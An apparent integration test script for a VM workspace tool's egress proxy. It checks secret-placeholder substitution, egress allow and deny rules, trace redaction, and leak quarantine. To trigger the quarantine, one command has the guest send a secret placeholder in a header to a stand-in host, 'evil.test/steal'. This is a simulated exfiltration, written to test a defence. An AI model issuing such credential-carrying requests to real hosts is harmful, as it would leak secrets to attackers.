#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The egress proxy from inside a test guest, through a private slated: the guest's only way out
# is 127.0.0.1:3128 (slate-guest forwards it over the guest channel to slated's proxy). With the
# proxy's test-only settings (an upstream name pointed at a server on the host's 127.0.0.1, and
# that address allowed explicitly in the workspace's egress policy):
#   a placeholder in a header reaches the bound server as the real value, while the guest never
#   sees the real value; `slate egress` deny-all and allow rules apply to the next request; the
#   trace records the request with the secret's name and without any value;
#   the same placeholder towards an unbound host is not forwarded, the workspace is marked
#   compromised in workspace.json (time, host) and its domain paused, and the `slate exec` whose
#   command was still running ends at once with status 251, pointing at `slate trace --leaks`;
#   `slate start` refuses it until `slate wipe`, after which it starts again with the mark cleared.
# The guest has busybox only (wget and nc); curl in the test image would allow HTTPS from the
# guest too (tests/integration/proxy.sh covers TLS interception host-side).
# Run through tests/integration/run-one, which sources lib.sh.
set -euo pipefail

ensure_libvirt
ensure_test_image
command -v python3 >/dev/null || skip "python3 not found"
pick_python

peer=$top_srcdir/tests/integration/proxy-peer.py
ws=px$$
peer_pid=
tls_pid=
on_exit destroy_domains "slate-$ws"
on_exit stop_slated
on_exit stop_bg peer_pid tls_pid

# A test CA and a certificate for the TLS server the guest reaches through the interception.
make_test_certs "$work" "slate proxy-vm test CA" api.bound.test DNS:api.bound.test,DNS:evil.test
"$py" "$peer" http --port-file "$work/peer.port" --log "$work/peer.log" \
    --headers-log "$work/peer.headers" &
peer_pid=$!
"$py" "$peer" http --port-file "$work/tls.port" --log "$work/peer.log" \
    --headers-log "$work/peer.headers" --cert "$work/srv.pem" --key "$work/srv.key" &
tls_pid=$!
wait_file "$work/peer.port" "$peer_pid"
wait_file "$work/tls.port" "$tls_pid"
pp=$(cat "$work/peer.port")
tp=$(cat "$work/tls.port")
: >"$work/peer.log"

# The proxy's test-only settings (doc/egress-proxy.md): names pointed at the host's server.
start_daemon() {
    start_slated SLATE_PROXY_TEST_CA_FILE="$work/ca.pem" \
        SLATE_PROXY_TEST_CONNECT_TO="plain.bound.test:80:127.0.0.1:$pp,evil.test:80:127.0.0.1:$pp,api.bound.test:443:127.0.0.1:$tp"
}
# gx: run a command in the guest, with a bound on the wall clock (should anything hang).
gx() { timeout -k 5 60 "$slate" --socket "$work/run/slated.sock" exec "$ws" -- "$@"; }

mnt=$(make_loop_fs btrfs proxyvm 3G)
state=$mnt/state
start_daemon
import_test_image
s create $ws --memory 512 --cpus 1 --home-size 1G >/dev/null
real=real-proxy-secret-$$-0123456789
# --allow-plain-http: the first requests below go over plain http:// (without it they are
# refused, proxy.sh checks that).
printf '%s' "$real" | s secret set $ws API_KEY --host plain.bound.test,api.bound.test \
    --allow-plain-http --json >"$work/set.json" ||
    fail "secret set: $(cat "$work/set.json")"
PH=$(jget placeholders.value <"$work/set.json")
log "placeholder $PH"
[ -f "$state/install/egress-ca.crt" ] || fail "slated made no egress CA"
[ "$(stat -c %a "$state/install/egress-ca.key")" = 600 ] || fail "the egress CA key is not 0600"
# The test server listens on 127.0.0.1: loopback is refused unless allowed explicitly.
s egress $ws allow 127.0.0.1 >/dev/null
s egress $ws ls | grep -q "^allow  127.0.0.1" || fail "egress ls: $(s egress $ws ls)"
s start $ws >/dev/null 2>"$work/err" || fail "start: $(cat "$work/err")"

# A placeholder in a header reaches the bound server as the real value; the guest sees "ok".
out=$(gx wget -q -O- --header "X-Api-Key: $PH" "http://plain.bound.test/small?k=1") ||
    fail "wget through the proxy: $out $(tail -5 "$work/slated.log")"
[ "$out" = ok ] || fail "the guest got '$out'"
grep -qF "X-Api-Key: $real" "$work/peer.headers" ||
    fail "the server did not get the real value: $(cat "$work/peer.headers")"
grep -qF "$PH" "$work/peer.headers" && fail "the placeholder reached the bound server"

# HTTPS from the guest: CONNECT, TLS interception with the egress CA (given to curl here; the
# image's provisioning puts it in the guest's trust store), the real value in the header.
if gx sh -c 'command -v curl' >/dev/null 2>&1; then
    timeout -k 5 60 "$slate" --socket "$work/run/slated.sock" exec -i $ws -- \
        sh -c 'cat >/tmp/egress-ca.crt' <"$state/install/egress-ca.crt"
    out=$(gx curl -sS --cacert /tmp/egress-ca.crt -H "Authorization: Bearer $PH" \
        https://api.bound.test/small?tls=1 2>&1) || fail "curl https in the guest: $out"
    [ "$out" = ok ] || fail "curl https in the guest got '$out'"
    grep -qF "Authorization: Bearer $real" "$work/peer.headers" ||
        fail "the TLS server did not get the real value"
    # The CA's certificate is what the guest checked: the server's own test CA is unknown there.
    [ "$(status gx curl -sS --cacert /tmp/egress-ca.crt --noproxy '*' https://api.bound.test/)" != 0 ] ||
        fail "the guest reached a server without the proxy"
else
    log "no curl in the guest: HTTPS from the guest not tested (proxy.sh tests it host-side)"
fi

# After requests the proxy answered with the real value substituted (plain and TLS), the guest
# still holds only the placeholder: its memory (the requests' buffers, curl's and wget's heaps,
# the kernel's socket buffers) and its disks. The dump is first shown to find the placeholder.
gx sh -c "printf '%s\n' '$PH' >/home/slate/used-placeholder; sync" >/dev/null
virsh -q -c "$SLATE_TEST_URI" dump --memory-only "slate-$ws" "$work/mem.dump" >/dev/null ||
    fail "virsh dump failed"
holds_bytes "$work/mem.dump" "the memory dump" "$PH"
lacks_bytes "$work/mem.dump" "the guest's memory" "$real"
rm -f "$work/mem.dump"
wsdir=$(dirname "$(find "$state" -path "*/$ws/workspace.json" | head -1)")
holds_bytes "$wsdir/home.img" home.img "$PH"
for img in disk.img home.img; do
    lacks_bytes "$wsdir/$img" "$img" "$real"
done

# The policy applies to the next request.
s egress $ws deny-all >/dev/null
[ "$(status gx wget -q -O- http://plain.bound.test/small)" != 0 ] || fail "deny-all let a request out"
s egress $ws allow plain.bound.test >/dev/null
s egress $ws allow 127.0.0.1 >/dev/null
out=$(gx wget -q -O- http://plain.bound.test/small) || fail "allow plain.bound.test: $out"
[ "$(status gx wget -q -O- http://evil.test/denied)" != 0 ] || fail "deny-all let evil.test out"
grep -q " /denied" "$work/peer.log" && fail "a denied request reached the server"
s egress $ws allow-all >/dev/null
s egress $ws allow 127.0.0.1 >/dev/null

# The trace: the request, the secret's name, no value.
s trace $ws --json >"$work/trace.json"
grep -q '"substituted":\["API_KEY"\]' "$work/trace.json" ||
    grep -q '"API_KEY"' "$work/trace.json" || fail "the trace lacks the substitution"
grep -qF "$real" "$work/trace.json" && fail "a real value in the trace"
s trace $ws | grep -q "plain.bound.test" || fail "slate trace: $(s trace $ws)"
s trace $ws | grep -q "?k=\*" || fail "query values not redacted: $(s trace $ws)"

# The same placeholder towards an unbound host: 451, not forwarded, compromised, paused; the exec
# whose command still runs (the sleep after the wget) ends at once: 251, quarantined.
t0=$(date +%s%3N)
leak_rc=$(status gx sh -c "wget -q -O- --header 'X-Api-Key: $PH' http://evil.test/steal; sleep 50")
log "the leaking exec exited $leak_rc after $(($(date +%s%3N) - t0)) ms: $(cat "$work/err" "$work/out" | head -3)"
[ "$leak_rc" = 251 ] || fail "the leaking exec exited $leak_rc, want 251 (quarantined): $(cat "$work/err")"
grep -q "slate trace $ws --leaks" "$work/err" || fail "the leaking exec's message: $(cat "$work/err")"
grep -q " /steal" "$work/peer.log" && fail "the leaking request reached the server"
for _ in $(seq 50); do
    [ "$(s describe $ws --json | jget compromised)" = true ] && break
    sleep 0.2
done
s describe $ws --json >"$work/desc.json"
[ "$(jget compromised <"$work/desc.json")" = true ] || fail "not marked compromised"
[ "$(jget compromised_host <"$work/desc.json")" = evil.test ] ||
    fail "compromised_host: $(jget compromised_host <"$work/desc.json")"
wsjson=$(find "$state" -path "*/$ws/workspace.json" | head -1)
[ -n "$wsjson" ] && grep -q '"compromised": *true' "$wsjson" || fail "workspace.json: not compromised"
grep -q '"compromisedHost": *"evil.test"' "$wsjson" || fail "workspace.json: no host"
dstate=$(virsh -q -c "$SLATE_TEST_URI" domstate "slate-$ws" 2>/dev/null || true)
[ "$dstate" = paused ] || fail "the domain is '$dstate', not paused"
s trace $ws --leaks >"$work/leaks.txt"
grep -q "LEAK BLOCKED: API_KEY" "$work/leaks.txt" || fail "trace --leaks: $(cat "$work/leaks.txt")"
s ls | grep -q "$ws" || fail "ls lost the workspace"

# It will not start again until wiped; wiped, it starts and the mark is gone.
s stop --force $ws >/dev/null
[ "$(status s start $ws)" = 1 ] || fail "a compromised workspace started"
grep -q "compromised" "$work/err" || fail "start's refusal does not say why: $(cat "$work/err")"
s ls | grep "$ws" | grep -q compromised || fail "ls does not show compromised: $(s ls)"
s wipe --yes $ws >/dev/null
s start $ws >/dev/null 2>"$work/err" || fail "start after wipe: $(cat "$work/err")"
[ "$(s describe $ws --json | jget compromised)" = false ] || fail "the mark survived the wipe"
# Its secrets and policy were kept.
out=$(gx wget -q -O- --header "X-Api-Key: $PH" "http://plain.bound.test/small?again=1") ||
    fail "after the wipe: $out"
s stop --force $ws >/dev/null
s rm --yes $ws >/dev/null
grep -qF "$real" "$work/slated.log" && fail "a real value in slated's log"
log "ok"
